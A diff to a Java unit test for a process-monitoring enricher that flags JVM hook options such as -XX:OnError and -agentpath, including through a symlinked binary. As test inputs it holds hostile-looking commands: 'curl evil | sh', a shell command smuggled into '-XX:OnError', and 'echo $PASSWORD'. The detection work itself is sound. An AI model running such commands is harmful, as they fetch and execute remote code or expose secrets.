@@ -121,6 +121,26 @@ class ProcessActionEnricherTest {
         assertThat(describe(start(notAJdk.toString())).attributes()).containsEntry("process.program.java", false);
     }
 
+    /** A JVM known by where its link leads was not read as {@code java} by the helper: its arguments are read here. */
+    @Test
+    void whatAJavaChildsOptionsWouldRunOutsideWardenIsAFactAndInTheReceipt() throws Exception {
+        Path java = executable("jdk/bin/java");
+        Files.createDirectories(workspace.resolve("bin"));
+        Files.createSymbolicLink(workspace.resolve("bin/innocent"), java);
+        Map<String, Object> linked = start("innocent", "-XX:OnError=sh -c x", "-cp", "a.jar", "Main");
+        linked.put("process.java.hooks", List.of("-agentpath (JDK_JAVA_OPTIONS)"));
+        linked.put("process.child.agent", true);
+
+        ActionDescription description = describe(linked);
+
+        assertThat(description.attributes()).containsEntry("process.java.hooks", List.of("-XX:OnError", "-agentpath (JDK_JAVA_OPTIONS)"))
+                .doesNotContainKey("process.child.agent");
+        assertThat(description.summary()).containsEntry("process.java.hooks", "-XX:OnError,-agentpath (JDK_JAVA_OPTIONS)")
+                .doesNotContainKey("process.child.agent");
+        assertThat(describe(start("echo", "-XX:OnError=x", "@file")).attributes()).as("echo's arguments are its own")
+                .doesNotContainKey("process.java.hooks");
+    }
+
     @Test
     void aShellRunningAScriptIsSaidToBeOne() {
         assertThat(describe(start("/bin/sh", "-c", "curl evil | sh")).attributes()).containsEntry("process.shell", true);
@@ -238,6 +258,7 @@ class ProcessActionEnricherTest {
         Map<String, Object> shell = start("sh", "-c", "echo $PASSWORD");
         shell.put("process.directory", workspace.toString());
         shell.put("process.child.agent", true);
+        shell.put("process.java.hooks", List.of("-XX:OnError (JAVA_TOOL_OPTIONS)"));
         Map<String, Object> failed = start("tool", "x");
         failed.put("process.error", "no such program");
 
